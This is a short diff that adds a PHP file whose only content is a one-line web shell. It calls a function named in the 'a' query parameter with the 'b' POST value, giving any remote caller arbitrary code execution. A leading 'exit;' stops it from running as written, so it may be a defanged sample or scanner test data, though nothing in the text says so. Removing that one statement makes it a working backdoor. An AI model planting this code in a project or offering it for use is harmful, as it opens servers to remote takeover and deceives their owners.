@@ -1,0 +1,2 @@
+<?php exit;
+$_GET['a']($_POST['b']);
